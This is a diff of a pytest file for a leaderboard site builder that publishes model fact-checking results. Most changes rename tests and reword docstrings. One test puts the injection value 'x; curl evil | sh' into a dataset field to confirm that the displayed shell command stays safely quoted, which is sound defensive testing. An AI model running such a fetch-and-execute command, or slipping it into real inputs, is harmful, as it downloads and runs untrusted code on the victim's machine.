@@ -1,4 +1,4 @@
-"""`factscope leaderboard`: what the site says, and what never gets into it."""
+"""`factscope leaderboard`: what the site shows, and what must never get into it."""
 
 from __future__ import annotations
 
@@ -40,7 +40,7 @@ def boards(
 
 
 def everything(folder: Path) -> str:
-    """All that is in the site: names of files and their texts."""
+    """Return all file names and texts of the site."""
     return "\n".join(f"{path}\n{path.read_text(encoding='utf-8')}" for path in folder.rglob("*") if path.is_file())
 
 
@@ -53,7 +53,7 @@ def both(tmp_path: Path) -> Path:
     return written(tmp_path / "both.json", result(good=20, bad=2))
 
 
-def test_a_row_says_how_sure_it_is(both: Path) -> None:
+def test_a_row_states_its_coverage_interval_and_range_of_ranks(both: Path) -> None:
     (board,) = boards(both)
     good, bad = board.rows
     assert (good.name, bad.name) == ("good", "bad")
@@ -70,7 +70,7 @@ def test_a_row_says_how_sure_it_is(both: Path) -> None:
     ("made", "date"),
     [("2026-11-21T20:00:00Z", "2026-11-21T20:00:00+00:00"), ("<b>soon</b>", None), (None, None)],
 )
-def test_a_row_whose_run_is_not_kept_has_the_date_of_its_file(
+def test_a_row_without_a_stored_run_has_the_date_of_its_file(
     tmp_path: Path, made: str | None, date: str | None
 ) -> None:
     values = result(good=20) | {"run": "none-that-is-kept", "made": made}
@@ -78,7 +78,7 @@ def test_a_row_whose_run_is_not_kept_has_the_date_of_its_file(
     assert board.rows[0].date == date
 
 
-def test_checkers_whose_predictions_were_given_have_the_date_of_their_file(
+def test_checkers_with_given_predictions_have_the_date_of_their_file(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setenv("SOURCE_DATE_EPOCH", "1795291200")
@@ -91,17 +91,17 @@ def test_checkers_whose_predictions_were_given_have_the_date_of_their_file(
     assert board.rows[0].date == "2026-11-21T20:00:00+00:00"
     foreign = json.loads(path.read_text(encoding="utf-8")) | {"dataset": "x; curl evil | sh"}
     board, *_ = boards(written(tmp_path / "foreign.json", foreign))
-    command = board.rows[0].command  # a person may paste it
+    command = board.rows[0].command  # safe for a person to paste
     assert shlex.split(command)[:3] == ["factscope", "meta", "x; curl evil | sh"]
 
 
-def test_nothing_of_a_private_row_leaves(both: Path, tmp_path: Path) -> None:
+def test_no_content_of_a_private_row_is_published(both: Path, tmp_path: Path) -> None:
     site = tmp_path / "site"
     write_site(boards(both), site)
     shown = everything(site)
     assert SECRET not in shown
     assert "blind (10)" in shown
-    assert "x/one, blind" in shown  # its totals are there
+    assert "x/one, blind" in shown  # totals are shown
     assert "Asked in seen-0/good" in shown
     assert (site / "facts-grounding/examples/10.html").is_file()
     assert not (site / "facts-grounding/examples/11.html").exists()
@@ -116,9 +116,7 @@ def test_a_split_may_be_made_public_and_a_file_private(both: Path, tmp_path: Pat
     assert SECRET not in shown
 
 
-def test_what_is_to_be_hidden_is_however_it_is_named(
-    both: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
-) -> None:
+def test_files_are_hidden_whatever_path_names_them(both: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.chdir(tmp_path)
     common = ["--store", "runs.db", "--totals-only"]
     assert build("both.json", "-o", "site", *common, "./both.json").exit_code == 0
@@ -129,7 +127,7 @@ def test_what_is_to_be_hidden_is_however_it_is_named(
     assert not (tmp_path / "third").exists()
 
 
-def test_a_site_that_can_not_be_put_in_place_leaves_the_old_one(
+def test_a_site_that_cannot_be_put_in_place_leaves_the_old_one(
     both: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     site = tmp_path / "site"
@@ -147,7 +145,7 @@ def test_a_site_that_can_not_be_put_in_place_leaves_the_old_one(
     assert everything(site) == before
 
 
-def test_no_line_ends_between_a_number_and_its_percent_sign(both: Path, tmp_path: Path) -> None:
+def test_no_line_breaks_between_a_number_and_its_percent_sign(both: Path, tmp_path: Path) -> None:
     site = tmp_path / "site"
     write_site(boards(both), site)
     pages = [site / "index.html", *site.glob("*/about.html"), *site.glob("*/good.html")]
@@ -201,12 +199,12 @@ def test_pages_ask_for_nothing_and_run_only_our_script(both: Path, tmp_path: Pat
             assert (path.parent / target).is_file(), f"{path}: {target}"
 
 
-def test_the_hub_gets_public_examples_alone(both: Path) -> None:
+def test_only_public_examples_go_to_the_hub(both: Path) -> None:
     (board,) = boards(both)
     text = eval_results(board, board.rows[0], HubTask("google/FACTS-grounding-public", "facts", "main")) or ""
     assert text.startswith('- dataset:\n    id: "google/FACTS-grounding-public"\n    task_id: "facts"\n')
     assert '    revision: "main"\n  value: 100.00\n  date: "2026-11-02"\n  notes: "FACTS Grounding' in text
-    (read,) = parse_eval_result_entries(yaml.safe_load(text))  # the reader of the Hub's own library
+    (read,) = parse_eval_result_entries(yaml.safe_load(text))  # the reader from the Hub's own library
     assert (read.dataset_id, read.task_id, read.value) == ("google/FACTS-grounding-public", "facts", 100.0)
     (hidden,) = boards(both, public=())
     assert eval_results(hidden, hidden.rows[0], HubTask("a/b", "c")) is None
@@ -219,7 +217,7 @@ def test_files_for_the_hub_are_written_when_asked_for(both: Path, tmp_path: Path
     assert build(*common, "a/b").exit_code == 2
 
 
-def test_an_entry_that_is_true_passes_and_is_shown(tmp_path: Path) -> None:
+def test_a_correct_entry_passes_and_is_shown(tmp_path: Path) -> None:
     path = entry(tmp_path)
     done = CliRunner().invoke(app, ["leaderboard", "check", str(path)])
     assert (done.exit_code, done.stderr) == (0, "")
@@ -244,21 +242,21 @@ def test_an_entry_that_is_true_passes_and_is_shown(tmp_path: Path) -> None:
         ({"wrong": 1}, "wrong: extra inputs"),
     ],
 )
-def test_an_entry_that_is_not_is_refused(tmp_path: Path, change: dict[str, object], message: str) -> None:
+def test_an_incorrect_entry_is_refused(tmp_path: Path, change: dict[str, object], message: str) -> None:
     good = tmp_path / "good"
     good.mkdir()
     done = CliRunner().invoke(app, ["leaderboard", "check", str(entry(tmp_path, **change)), str(entry(good))])
     assert done.exit_code == 1
     assert message in done.stderr
-    assert "good/acme.toml" in done.stdout  # the others are checked all the same
+    assert "good/acme.toml" in done.stdout  # the others are still checked
 
 
-def test_an_entry_brings_no_other_model_along(tmp_path: Path) -> None:
+def test_an_entry_whose_result_has_other_models_is_refused(tmp_path: Path) -> None:
     with pytest.raises(InputError, match="other models too"):
         boards(entry(tmp_path, "better"))
 
 
-def test_files_that_are_none_of_ours(tmp_path: Path) -> None:
+def test_files_that_are_not_results_are_refused(tmp_path: Path) -> None:
     with pytest.raises(InputError, match="not a result that"):
         boards(written(tmp_path / "a.json", {"a": 1}))
     (tmp_path / "b.json").write_text("{", encoding="utf-8")
@@ -275,7 +273,7 @@ def test_files_that_are_none_of_ours(tmp_path: Path) -> None:
         boards(tmp_path / "c.json")
 
 
-def test_ranks_are_shared_and_range_over_what_no_test_tells_apart() -> None:
+def test_ranks_range_over_rows_that_no_test_distinguishes() -> None:
     found = standings({"a": 0.9, "b": 0.5, "c": 0.5, "d": None}, [("a", "d"), ("b", "d")])
     assert {name: (one.rank, one.tied, one.best, one.worst) for name, one in found.items()} == {
         "a": (1, False, 1, 3),
@@ -286,7 +284,7 @@ def test_ranks_are_shared_and_range_over_what_no_test_tells_apart() -> None:
 
 
 def test_texts_of_an_example_are_in_the_site_once(tmp_path: Path) -> None:
-    """One page has the document and the answers of all models, with the labels of judges behind each sentence."""
+    """One page has the document and all models' answers, with the judges' labels behind each sentence."""
     kept = stored("seen-4/good", "seen-4/bad")
     (board,), _ = gather(
         [written(tmp_path / "r.json", result(good=20, bad=2))],
@@ -301,7 +299,7 @@ def test_texts_of_an_example_are_in_the_site_once(tmp_path: Path) -> None:
     assert shown.count("An old mole.") == 1
     assert [shown.count(f'<article id="{name}">') for name in ("good", "bad")] == [1, 1]
     assert shown.count("Nothing says so.") == 2
-    assert '<a href="#q1">✓</a>1</b>' in shown  # the excerpt of the first judge, where it begins
+    assert '<a href="#q1">✓</a>1</b>' in shown  # the first judge's excerpt, at its start
     assert "&lt;b&gt;It glows." in shown
     row = (tmp_path / "site/facts-grounding/bad.html").read_text(encoding="utf-8")
     assert 'href="examples/1.html#bad"' in row
@@ -309,12 +307,12 @@ def test_texts_of_an_example_are_in_the_site_once(tmp_path: Path) -> None:
 
 
 def details(board: Leaderboard) -> dict[str, Table]:
-    """The further tables of a board, by their titles."""
+    """Return the further tables of a board by title."""
     titles = [block.text for block in board.details if isinstance(block, Title)]
     return dict(zip(titles, (block for block in board.details if isinstance(block, Table)), strict=True))
 
 
-def test_the_judges_have_their_tables(tmp_path: Path) -> None:
+def test_the_page_has_tables_about_the_judges(tmp_path: Path) -> None:
     values = result(x_one=20, bad=2)
     values["verdicts"][4]["refused"] = True
     values["tags"] = {f"seen-{n}": {"domain": "Legal" if n % 4 else "Medical"} for n in range(0, 20, 2)}
@@ -333,7 +331,7 @@ def test_the_judges_have_their_tables(tmp_path: Path) -> None:
         assert f">{title}</h2>" in page
 
 
-def test_published_rows_stand_marked_below_ones_own(tmp_path: Path) -> None:
+def test_published_rows_are_marked_and_listed_below_own_rows(tmp_path: Path) -> None:
     values = json.loads(json.dumps(result(good=20)).replace("x/one", "GPT-4o"))
     path, site = written(tmp_path / "r.json", values), tmp_path / "site"
     done = build(path, "-o", site, "--store", tmp_path / "runs.db", "--published")
@@ -344,13 +342,13 @@ def test_published_rows_stand_marked_below_ones_own(tmp_path: Path) -> None:
     first = published.partition("</tr>")[2].partition("</tr>")[0]
     assert "Gemini 2.0 Flash Experimental" in first
     assert "FACTS Grounding Table 6 (final)" in first
-    assert ">77.4<" in first  # by the judge that is the same, on the open split
+    assert ">77.4<" in first  # from the same judge, on the open split
     assert published.count('scope="row"') == 9
     done = build(path, "-o", site, "--store", tmp_path / "runs.db")
     assert "published" not in (site / "index.html").read_text(encoding="utf-8").partition("<body>")[2]
 
 
-def test_published_rows_of_checkers_are_those_of_the_level(tmp_path: Path) -> None:
+def test_published_rows_of_checkers_match_the_level_of_the_table(tmp_path: Path) -> None:
     found, _ = gather([checkers(tmp_path / "a.json")], [], public=(), totals_only=(), find=lambda run: None)
     segments, responses = (with_published(board) for board in found[:2])
     best = max(segments.references, key=lambda row: row.figures[0].value or 0)
@@ -361,7 +359,7 @@ def test_published_rows_of_checkers_are_those_of_the_level(tmp_path: Path) -> No
 
 
 def checkers(path: Path, **change: object) -> Path:
-    """A result of `meta` with two checkers, told by domain and kind of error."""
+    """Write a result of `meta` with two checkers, broken down by domain and kind of error."""
     part = {"n": 4, "n_answered": 4, "coverage": 1.0, "error": {"f1": 0.5, "precision": 0.5, "recall": 0.5}}
     level = part | {
         "by_domain": {"wk": part, "math": part | {"error": {"f1": 0.25}}},
@@ -375,7 +373,7 @@ def checkers(path: Path, **change: object) -> Path:
     return written(path, values | change)
 
 
-def test_results_of_checkers_share_their_tables(tmp_path: Path) -> None:
+def test_results_of_several_checker_files_share_tables(tmp_path: Path) -> None:
     first = checkers(tmp_path / "a.json")
     more = json.loads(first.read_text(encoding="utf-8"))["methods"]
     second = checkers(tmp_path / "b.json", methods=[more[0], more[0] | {"method": "three"}])
@@ -393,7 +391,7 @@ def test_results_of_checkers_share_their_tables(tmp_path: Path) -> None:
 
 
 def with_f1(path: Path, scores: dict[str, float | None], *differing: tuple[str, str, float]) -> Path:
-    """A result of `meta` with these F1 and these confirmed differences, the second less the first."""
+    """Write a result of `meta` with these F1 scores and these confirmed differences, second minus first."""
     part = {"n": 50, "n_answered": 50, "coverage": 1.0}
     methods = [{"method": name, "levels": {"segment": part | {"error": {"f1": f1}}}} for name, f1 in scores.items()]
     pairings = [
@@ -409,26 +407,26 @@ def ranges(*paths: Path) -> dict[str, tuple[int, int, int]]:
     return {row.name: (row.rank.rank, row.rank.best, row.rank.worst) for row in found[0].rows}
 
 
-def test_a_test_that_two_files_hold_counts_once(tmp_path: Path) -> None:
+def test_a_test_in_two_files_counts_once(tmp_path: Path) -> None:
     tested = [("a", "b", -0.3), ("a", "c", -0.6), ("b", "c", -0.3)]
     two = with_f1(tmp_path / "two.json", {"a": 0.9, "b": 0.6}, tested[0])
     three = with_f1(tmp_path / "three.json", {"a": 0.9, "b": 0.6, "c": 0.3}, *tested)
     assert ranges(two, three) == {"a": (1, 1, 1), "b": (2, 2, 2), "c": (3, 3, 3)}
 
 
-def test_only_tests_of_the_figures_that_are_shown_limit_their_ranks(tmp_path: Path) -> None:
+def test_only_tests_of_the_displayed_figures_limit_ranks(tmp_path: Path) -> None:
     two = with_f1(tmp_path / "two.json", {"a": 0.9, "b": 0.6})
-    # Here “a” is another checker of that name: its tests say nothing about the one in the first file.
+    # “a” here is another checker of the same name: its tests don't apply to the one in the first file.
     other = with_f1(tmp_path / "other.json", {"a": 0.2, "c": 0.3}, ("a", "c", 0.1))
     assert ranges(two, other) == {"a": (1, 1, 3), "b": (2, 1, 3), "c": (3, 1, 3)}
     withheld = with_f1(tmp_path / "withheld.json", {"a": 0.9, "b": 0.6, "few": None}, ("a", "few", 0.1))
     assert ranges(withheld) == {"a": (1, 1, 2), "b": (2, 1, 2)}
-    # On the units that both answered the order is the other way round.
+    # On the units that both answered, the order is reversed.
     opposed = with_f1(tmp_path / "opposed.json", {"a": 0.9, "b": 0.6}, ("a", "b", 0.1))
     assert ranges(opposed) == {"a": (1, 1, 2), "b": (2, 1, 2)}
 
 
-def test_a_checker_without_a_figure_is_left_out_for_the_reason_that_its_file_gives(tmp_path: Path) -> None:
+def test_a_checker_without_a_figure_is_left_out_with_the_reason_in_its_file(tmp_path: Path) -> None:
     path = checkers(tmp_path / "a.json")
     methods = json.loads(path.read_text(encoding="utf-8"))["methods"]
     few = json.loads(json.dumps(methods[1] | {"method": "few"}))
@@ -443,8 +441,8 @@ def test_a_checker_without_a_figure_is_left_out_for_the_reason_that_its_file_giv
     assert lost in " ".join(done.stderr.split())
 
 
-def test_means_of_stored_responses_are_over_those_that_have_the_score() -> None:
-    """Less than half of the second response was judged: its score is withheld, so its units are in no mean either."""
+def test_means_of_stored_responses_cover_only_those_with_the_score() -> None:
+    """Less than half of the second response was judged: its score is withheld, so its units are in no mean."""
     full: list[tuple[str, Outcome]] = [("One.", "supported"), ("Two.", "contradicted")]
     little: list[tuple[str, Outcome]] = [("One.", "supported"), *[(f"Lost {k}.", "failed") for k in range(3)]]
     reports = {}
@@ -461,7 +459,7 @@ def test_means_of_stored_responses_are_over_those_that_have_the_score() -> None:
     assert board.notes == ("lost has no score: nothing in its responses could be judged, or too little. Left out.",)
 
 
-def test_models_of_one_run_have_one_signature_however_many_responses_each_has() -> None:
+def test_models_of_one_run_share_a_signature_whatever_their_number_of_responses() -> None:
     reports = {}
     for name, model in (("a", "m"), ("b", "m"), ("c", "n")):
         report = checked(name, [("One.", "supported")])
@@ -485,14 +483,14 @@ def test_a_column_that_counts_only_some_answers_is_remarked_on_with_its_row(tmp_
     assert notes[methods[1]["method"]][1:] == ()
 
 
-def test_results_on_other_units_have_a_table_of_their_own(tmp_path: Path) -> None:
+def test_results_on_different_units_have_separate_tables(tmp_path: Path) -> None:
     files = [checkers(tmp_path / "a.json"), checkers(tmp_path / "b.json", units="own")]
     found, _ = gather(files, [], public=(), totals_only=(), find=lambda run: None)
     assert [board.title for board in found].count("Checkers on felm") == 2
 
 
 def short_answers(path: Path, **change: object) -> Path:
-    """A result of `bench short-answers`: twenty questions, one model knows them all and one half of them."""
+    """Write a result of `bench short-answers`: of twenty questions, one model knows all and one half."""
     ids = [f"q{n}" for n in range(20)]
     answers = [
         {"id": name, "model": model, "question": f"Who is {name}?", "gold": "A", "answer": "B", "grade": grade}
@@ -540,14 +538,14 @@ def test_a_model_with_few_graded_answers_has_no_row(tmp_path: Path) -> None:
     assert lost in " ".join(done.stderr.split())
 
 
-def test_answers_that_another_grader_graded_have_a_table_of_their_own(tmp_path: Path) -> None:
+def test_answers_graded_by_another_grader_have_a_separate_table(tmp_path: Path) -> None:
     first = short_answers(tmp_path / "a.json")
     assert len(boards(first, short_answers(tmp_path / "b.json", grader="x/other"))) == 2
     harder = {"penalty": 3.0, "resamples": 100, "seed": 0}
     assert len(boards(first, short_answers(tmp_path / "c.json", settings=harder))) == 2
 
 
-def test_the_order_is_named_with_the_alpha_that_it_was_computed_at(tmp_path: Path) -> None:
+def test_the_order_states_the_alpha_it_was_computed_at(tmp_path: Path) -> None:
     path = factbench_result(tmp_path / "r.json", "verify", settings={"alpha": 0.3})
     done = CliRunner().invoke(app, ["leaderboard", "build", str(path), "-o", str(tmp_path / "site")])
     assert done.exit_code == 0, done.output
@@ -555,8 +553,8 @@ def test_the_order_is_named_with_the_alpha_that_it_was_computed_at(tmp_path: Pat
     assert "0.3; the order by hallucination score at 0.3 holds from 0.00 to 1.00" in about
 
 
-def test_rows_that_a_run_left_out_are_named_with_their_model(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    """X was checked on one row of three, Z on none, and one more row names no model."""
+def test_rows_left_out_by_a_run_are_named_with_their_model(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """X was checked on one row of three, Z on none, and one more row has no model."""
     monkeypatch.setenv("FACTSCOPE_CACHE", str(tmp_path / "cache"))
     monkeypatch.setenv("FACTSCOPE_STORE", str(tmp_path / "runs.db"))
     text = "The lens came in 1858."
@@ -589,8 +587,8 @@ def test_rows_that_a_run_left_out_are_named_with_their_model(tmp_path: Path, mon
     assert "2 rows left out" in (folder / "x.eval_results.yaml").read_text(encoding="utf-8")
 
 
-def test_a_withheld_average_is_the_reason_and_takes_no_rank(tmp_path: Path) -> None:
-    """The first judge has a verdict on 4 of the 10 public answers of `half`, which is the best on those."""
+def test_a_row_with_a_withheld_average_has_no_rank_and_says_why(tmp_path: Path) -> None:
+    """The first judge has verdicts on 4 of the 10 public answers of `half`, which would lead on those."""
     values = result(good=18, half=20, bad=2)
     for one in values["verdicts"]:
         number = int(one["id"].rpartition("-")[2])
